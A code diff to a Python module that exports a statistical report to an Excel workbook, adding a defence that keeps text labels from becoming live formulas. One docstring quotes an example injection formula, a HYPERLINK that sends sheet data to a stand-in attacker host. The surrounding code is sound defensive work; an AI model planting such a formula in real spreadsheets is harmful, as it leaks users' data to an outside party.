@@ -1,12 +1,17 @@
 """The statistical report as an Excel workbook laid out like Biểu số 06/VPCP/KSTT (private).
 
 openpyxl (the ``excel`` extra) is imported only when a workbook is written.
+Every text cell is written as text (data type ``s``), never as a formula: a
+label beginning with ``=``, ``+``, ``-`` or ``@`` is also marked as quoted text
+(``quotePrefix``, what typing a leading ``'`` in Excel does), so editing the
+cell does not turn it into a formula either (docs/security.md).
 """
 
 from __future__ import annotations
 
 from typing import TYPE_CHECKING, Any, Final
 
+from lapvo_cchc._text import is_formula_text
 from lapvo_cchc.errors import MissingExtraError
 from lapvo_cchc.kpi import FORM_COLUMNS
 from lapvo_cchc.kpi.counting import IDENTITIES
@@ -165,7 +170,24 @@ def write_xlsx(report: Report, path: str, lang: Lang = "vi") -> None:
     ws.title = _XLSX_TEXT[lang]["sheet"]
     _write_form(ws, report, lang)
     _write_checks(wb.create_sheet(_XLSX_TEXT[lang]["checks"]), report, lang)
+    for sheet in wb.worksheets:
+        _text_not_formulas(sheet)
     wb.save(path)
+
+
+def _text_not_formulas(ws: Any) -> None:
+    """Make every text cell a string cell; quote-prefix the ones that look like formulas.
+
+    openpyxl stores any string beginning with ``=`` as a formula: a group label
+    ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would be a live link
+    that sends the sheet's data away. The workbook holds no formula of its own.
+    """
+    for row in ws.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+                if is_formula_text(cell.value):
+                    cell.quotePrefix = True
 
 
 def _write_form(ws: Any, report: Report, lang: Lang) -> None:
